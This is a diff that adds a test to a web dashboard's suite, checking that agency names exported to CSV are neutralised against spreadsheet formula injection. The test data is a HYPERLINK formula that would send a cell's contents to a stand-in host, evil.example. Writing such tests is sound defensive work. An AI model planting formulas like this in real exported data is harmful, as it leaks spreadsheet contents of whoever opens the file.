@@ -165,3 +165,15 @@ def test_scorecards_panel_shows_the_chosen_agency_ranked_among_all(
     panel = api.get(f"/dashboard/panel/scorecards/?{MARCH}&agency=works",
                     HTTP_ACCEPT_LANGUAGE="en").content.decode()  # fmt: skip
     assert "its rank is among all agencies" in panel
+
+
+def test_a_formula_in_an_agency_name_is_neutralised_in_the_csv(
+    api: Client, make_case: Callable[..., Case], make_agency: Callable[..., Agency]
+) -> None:
+    """Security 22.5: agency names arrive with imported reports; a spreadsheet would run one
+    starting with = as a formula. Every dashboard CSV goes through pracha.csvsafe."""
+    evil = make_agency("evil", '=HYPERLINK("http://evil.example/?d="&A1,"click")')
+    make_case(created="2024-03-02 09:00", agency=evil, state="done", closed="2024-03-03 09:00")
+    text = api.get(f"/dashboard/indicators.csv?{MARCH}&by=agency").content.decode("utf-8-sig")
+    names = [row["name_th"] for row in csv.DictReader(io.StringIO(text)) if row["key"] == "evil"]
+    assert names == ["'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")"]
